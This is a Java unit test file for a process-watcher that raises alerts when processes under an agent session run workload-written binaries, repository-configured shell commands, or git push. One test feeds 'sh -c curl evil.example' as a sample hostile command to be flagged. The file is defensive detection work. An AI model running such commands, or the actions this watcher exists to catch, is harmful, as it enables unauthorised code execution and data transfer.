package io.plumbline.watcher;

import static org.assertj.core.api.Assertions.assertThat;

import io.plumbline.events.v1.AlertRaised;
import io.plumbline.events.v1.Event;
import io.plumbline.events.v1.ProcessRef;
import java.util.List;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;

class HousekeepingTest {
    private static final ProcessRef HELPER = SessionScript.process(10, 5);
    private static final ProcessRef BELOW = SessionScript.process(11, 6);

    private final SessionScript session = SessionScript.of("{}");

    @BeforeEach
    void forkAHelper() {
        session.fork(SessionScript.agent(), HELPER);
    }

    @Test
    void isNoDeviationNorIsWhatItRunsFromSystemFolders() {
        session.exec(HELPER, "bash", "-c", "env");
        session.fork(HELPER, BELOW);

        assertThat(seen(session.exec(BELOW, "env"))).isEmpty();
        assertThat(seen(session.verdicts())).isEmpty();
    }

    @Test
    void runsNothingThatTheWorkloadMayHaveWritten() {
        session.exec(HELPER, "bash", "-c", "env");
        session.fork(HELPER, BELOW);

        assertThat(seen(session.execFile(BELOW, "/workspace/env", "env"))).containsExactly("env (11) executed env");
    }

    @Test
    void runsNothingThatARepositorysConfigurationNames() {
        session.exec(HELPER, "git", "rev-parse", "--show-toplevel");
        session.fork(HELPER, BELOW);

        assertThat(seen(session.execFile(BELOW, "/usr/bin/dash", "sh", "-c", "curl evil.example")))
                .containsExactly("dash (11) executed sh -c curl evil.example");
    }

    @Test
    void isNotWhatOnlyCallsItselfSo() {
        assertThat(seen(session.execFile(HELPER, "/workspace/git", "git", "rev-parse", "--show-toplevel")))
                .containsExactly("git (10) executed git rev-parse --show-toplevel");
    }

    @Test
    void doesNotCoverGitThatSendsOrWrites() {
        assertThat(seen(session.exec(HELPER, "git", "push", "origin", "main"))).hasSize(1);
    }

    private static List<String> seen(List<Event> verdicts) {
        return verdicts.stream()
                .filter(Event::hasAlertRaised)
                .map(Event::getAlertRaised)
                .map(AlertRaised::getSeen)
                .toList();
    }
}
